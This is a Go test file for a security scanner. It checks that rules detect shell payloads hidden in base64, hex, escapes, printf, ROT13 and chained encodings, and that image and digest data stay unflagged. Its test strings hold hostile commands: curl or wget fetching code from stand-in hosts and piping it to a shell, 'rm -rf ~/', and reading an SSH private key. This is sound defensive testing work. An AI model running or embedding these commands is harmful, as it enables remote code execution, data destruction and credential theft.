package secscan

import (
	"strings"
	"testing"
)

func init() {
	ruleCases = append(ruleCases, []struct {
		rule, file, text string
		hit              bool
	}{
		{"SG507", "tool.py", "CMD = base64.b64decode('d2dldCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IC1PIC0gfCBiYXNo')", true},
		{"SG507", "tool.py", "LOGO = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')", false},
		{"SG507", "tool.py", "GREETING = base64.b64decode('SGVsbG8sIHdvcmxkISBIYXZlIGEgbmljZSBkYXku')", false},
	}...)
}

// TestDecodedPayloads: one case per encoding of issue 31 that decoding
// undoes (base64, hex, \x escapes, printf, ROT13, a chain), with the exact
// findings: rule, severity, place, message and the decoded text.
func TestDecodedPayloads(t *testing.T) {
	cases := []struct {
		name, file, text string
		want             []string // rule severity file:line:col | message | normalized
	}{
		{"base64", "run.py", "import base64\nC = base64.b64decode('Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9pIHwgYmFzaA==')\n", []string{
			"SG501 critical run.py:2:23 | downloads code and runs it (decoded from base64) | curl -s https://example.invalid/i | bash",
			"SG507 critical run.py:2:23 | decodes to code that runs something (decoded from base64) | curl -s https://example.invalid/i | bash",
		}},
		{"hex", "run.py", "s = bytes.fromhex('726d202d7266207e2f').decode()\n", []string{
			"SG507 critical run.py:1:20 | decodes to code that runs something (decoded from hex) | rm -rf ~/",
			"SG701 high run.py:1:20 | a destructive command (decoded from hex) | rm -rf ~/",
		}},
		{"x escapes", "run.js", "const c = \"\\x63\\x61\\x74\\x20\\x7e\\x2f\\x2e\\x73\\x73\\x68\\x2f\\x69\\x64\\x5f\\x72\\x73\\x61\";\n", []string{
			"SG301 high run.js:1:12 | reads a credential file (decoded from escapes) | cat ~/.ssh/id_rsa",
		}},
		{"printf", "run.sh", "#!/bin/sh\nprintf '\\167\\147\\145\\164 -qO- http://203.0.113.5/x | sh' | sh\n", []string{
			"SG507 critical run.sh:2:9 | decodes to code that runs something (decoded from escapes) | wget -qO- http://203.0.113.5/x | sh",
		}},
		{"rot13", "run.py", "os.popen(codecs.decode('phey uggcf://rknzcyr.vainyvq/f | fu', 'rot13'))\n", []string{
			"SG501 critical run.py:1:25 | downloads code and runs it (decoded from rot13) | curl https://example.invalid/s | sh",
			"SG507 critical run.py:1:25 | decodes to code that runs something (decoded from rot13) | curl https://example.invalid/s | sh",
		}},
		{"base64 of hex", "run.py", "X = 'NjM3NTcyNmMyMDY4NzQ3NDcwM2EyZjJmNzgyZTY5NmU3NjYxNmM2OTY0MmY3MzIwN2MyMDczNjg='\n", []string{
			"SG501 critical run.py:1:6 | downloads code and runs it (decoded from base64, then hex) | curl http://x.invalid/s | sh",
			"SG507 critical run.py:1:6 | decodes to code that runs something (decoded from base64, then hex) | curl http://x.invalid/s | sh",
		}},
		{"an image and a digest are data", "icon.py", "PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='\nSHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, f := range File(c.file, []byte(c.text)) {
				if f.Normalized == "" {
					continue // the rules' own reading of the literal line
				}
				got = append(got, strings.Join([]string{f.Rule + " " + string(f.Severity) + " " + f.Location(), f.Message, f.Normalized}, " | "))
			}
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
		})
	}
}
